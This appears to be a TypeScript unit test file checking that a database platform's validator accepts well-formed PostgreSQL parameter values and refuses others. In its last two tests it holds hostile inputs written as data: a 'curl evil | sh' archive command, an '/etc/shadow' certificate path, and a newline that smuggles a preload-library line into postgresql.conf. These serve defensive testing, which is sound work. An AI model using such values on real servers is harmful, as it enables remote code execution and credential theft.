// Configuration-group parameters against a catalogue in pg_settings' shape: names, types, units,
// ranges and enum values, and the parameters tenants may never set. (The end-to-end test checks
// the same against a real server's catalogue.)
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import type { CatalogueSetting } from '@strata/agent';
import { checkParameters } from '../src/instance-admin/index.js';

const setting = (fields: Partial<CatalogueSetting> & Pick<CatalogueSetting, 'name' | 'vartype'>): CatalogueSetting => ({
  unit: null,
  min: null,
  max: null,
  enumValues: null,
  restartRequired: false,
  context: 'user',
  defaultValue: null,
  ...fields,
});

/** A few rows of PostgreSQL 15's pg_settings, as the agent reports them. */
const CATALOGUE: CatalogueSetting[] = [
  setting({ name: 'work_mem', vartype: 'integer', unit: 'kB', min: 64, max: 2147483647, defaultValue: '4096' }),
  setting({ name: 'wal_buffers', vartype: 'integer', unit: '8kB', min: -1, max: 262143, restartRequired: true, context: 'postmaster' }),
  setting({ name: 'max_prepared_transactions', vartype: 'integer', min: 0, max: 262143, restartRequired: true, context: 'postmaster' }),
  setting({ name: 'statement_timeout', vartype: 'integer', unit: 'ms', min: 0, max: 2147483647 }),
  setting({ name: 'random_page_cost', vartype: 'real', min: 0, max: 1.79769e308 }),
  setting({ name: 'jit', vartype: 'bool' }),
  setting({ name: 'log_statement', vartype: 'enum', enumValues: ['none', 'ddl', 'mod', 'all'], context: 'superuser' }),
  setting({ name: 'DateStyle', vartype: 'string' }),
  setting({ name: 'archive_command', vartype: 'string', context: 'sighup' }),
  setting({ name: 'shared_buffers', vartype: 'integer', unit: '8kB', min: 16, max: 1073741823, restartRequired: true, context: 'postmaster' }),
  setting({ name: 'ssl_cert_file', vartype: 'string', context: 'sighup' }),
  setting({ name: 'block_size', vartype: 'integer', min: 8192, max: 8192, context: 'internal' }),
];

describe('checkParameters', () => {
  test('accepts values of the right type within range, with units converted to the setting\'s, and lists those needing a restart', () => {
    const checked = checkParameters(
      { work_mem: '16MB', wal_buffers: '1MB', max_prepared_transactions: '10', statement_timeout: '30s', random_page_cost: '1.1', jit: 'false', log_statement: 'DDL', datestyle: 'ISO, MDY' },
      CATALOGUE,
    );
    assert.deepEqual(checked.problems, []);
    assert.deepEqual(checked.parameters, {
      work_mem: '16MB',
      wal_buffers: '1MB',
      max_prepared_transactions: '10',
      statement_timeout: '30s',
      random_page_cost: '1.1',
      jit: 'off',
      log_statement: 'ddl',
      DateStyle: 'ISO, MDY',
    });
    assert.deepEqual(checked.restartRequired, ['wal_buffers', 'max_prepared_transactions']);
  });

  test('an unknown or read-only name is unknown_parameter', () => {
    const { problems, parameters } = checkParameters({ no_such_thing: '1', block_size: '8192' }, CATALOGUE);
    assert.deepEqual(problems.map((problem) => [problem.parameter, problem.code]), [['no_such_thing', 'unknown_parameter'], ['block_size', 'unknown_parameter']]);
    assert.deepEqual(parameters, {});
  });

  test('a value out of range is invalid_parameter_value naming the parameter and the allowed range in its unit', () => {
    const [problem] = checkParameters({ work_mem: '4TB' }, CATALOGUE).problems;
    assert.equal(problem?.code, 'invalid_parameter_value');
    assert.equal(problem?.parameter, 'work_mem');
    assert.match(problem?.message ?? '', /work_mem = "4TB" is out of range: use 64kB to 2147483647kB/);
    assert.deepEqual(problem?.allowed, { min: 64, max: 2147483647, unit: 'kB' });
    assert.match(checkParameters({ work_mem: '32' }, CATALOGUE).problems[0]?.message ?? '', /out of range/);
    assert.match(checkParameters({ wal_buffers: '4GB' }, CATALOGUE).problems[0]?.message ?? '', /-1 to 262143 \(in units of 8kB\)/);
  });

  test('a unit of the wrong kind, a number that is not one, a fraction for an integer, a bad boolean or enum value are invalid_parameter_value', () => {
    const codes = (parameters: Record<string, string>) => checkParameters(parameters, CATALOGUE).problems.map((problem) => `${problem.parameter}:${problem.code}`);
    assert.deepEqual(codes({ work_mem: '10s' }), ['work_mem:invalid_parameter_value']);
    assert.deepEqual(codes({ statement_timeout: '5MB' }), ['statement_timeout:invalid_parameter_value']);
    assert.deepEqual(codes({ max_prepared_transactions: '10kB' }), ['max_prepared_transactions:invalid_parameter_value']);
    assert.deepEqual(codes({ max_prepared_transactions: 'lots' }), ['max_prepared_transactions:invalid_parameter_value']);
    assert.deepEqual(codes({ max_prepared_transactions: '1.5' }), ['max_prepared_transactions:invalid_parameter_value']);
    assert.deepEqual(codes({ jit: 'maybe' }), ['jit:invalid_parameter_value']);
    const [enumProblem] = checkParameters({ log_statement: 'loud' }, CATALOGUE).problems;
    assert.deepEqual(enumProblem?.allowed, { values: ['none', 'ddl', 'mod', 'all'] });
    assert.match(enumProblem?.message ?? '', /use one of none, ddl, mod, all/);
  });

  test('parameters the platform sets, and those naming programs, files or libraries, are parameter_not_allowed', () => {
    const { problems } = checkParameters({ shared_buffers: '64MB', archive_command: 'curl evil | sh', ssl_cert_file: '/etc/shadow' }, CATALOGUE);
    assert.deepEqual(problems.map((problem) => [problem.parameter, problem.code]), [
      ['shared_buffers', 'parameter_not_allowed'],
      ['archive_command', 'parameter_not_allowed'],
      ['ssl_cert_file', 'parameter_not_allowed'],
    ]);
  });

  test('a string value with control characters is refused (it would end the line in postgresql.conf)', () => {
    assert.deepEqual(checkParameters({ DateStyle: "ISO\nshared_preload_libraries = 'evil'" }, CATALOGUE).problems.map((problem) => problem.code), ['invalid_parameter_value']);
  });
});
